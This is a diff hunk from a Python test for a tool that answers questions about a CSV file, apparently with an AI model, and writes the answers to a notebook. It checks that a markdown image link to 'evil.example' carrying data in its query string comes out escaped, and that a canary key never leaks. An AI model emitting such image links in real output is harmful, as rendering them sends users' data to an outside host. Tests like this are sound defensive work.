@@ -60,7 +60,7 @@ def test_ask_answers_with_cells_and_keeps_a_notebook(tmp_path: Path) -> None:
     assert notebook.cells[0].source.startswith("# Questions about cities.csv\n\nAnswered by o3-mini")
     assert "Which city sold most?" in notebook.cells[2].source
     assert notebook.cells[4].outputs[0].data["text/plain"].startswith("city\nOslo    7")
-    assert notebook.cells[5].source == "Oslo sold most: **7**. [x](https://evil.example/?d=7)"
+    assert notebook.cells[5].source == "Oslo sold most: **7**. &#33;[x](https://evil.example/?d=7)"
     assert "canary-key-4711" not in (tmp_path / "out.ipynb").read_text() + done.stdout + done.stderr
 
 
